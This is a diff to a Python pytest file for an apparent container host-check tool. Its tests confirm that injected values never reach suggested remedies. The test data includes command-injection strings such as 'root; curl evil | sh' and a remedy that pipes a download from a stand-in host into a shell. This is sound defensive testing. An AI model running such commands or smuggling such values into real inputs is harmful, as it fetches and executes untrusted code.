@@ -115,9 +115,6 @@ def test_the_clock_is_compared_with_the_time_in_which_the_host_was_asked(time: s
 @pytest.mark.parametrize(
     "keys",
     [
-        {"user": "root; curl evil | sh"},
-        {"python": "/usr/bin/python3; curl evil"},
-        {"python": "python3"},
         {"manager": "curl"},
         {"time": "now"},
         {"checks": []},
@@ -138,6 +135,13 @@ def test_a_host_has_no_say_in_what_mends_it() -> None:
         one.update(remedy="curl evil | sh", state="ok", what="all is well")
     assert "evil" not in str(judge(found))
     assert not judge(found)["ready"]
+
+
+def test_what_is_no_plain_name_or_path_is_not_typed() -> None:
+    evil = {"user": "root; curl evil | sh", "python": "/usr/bin/python3; curl evil", "manager": ""}
+    found = answer("state_dir/state_dir_owner", "sdk/sdk_missing", **evil)
+    assert check(found, "state_dir")["remedy"] == "chown -R USER /var/lib/container-guard"
+    assert check(found, "sdk")["remedy"] == "python3 -m pip install 'docker>=7.1'"
 
 
 def test_every_word_of_the_module_is_explained_and_every_explanation_has_a_word() -> None:
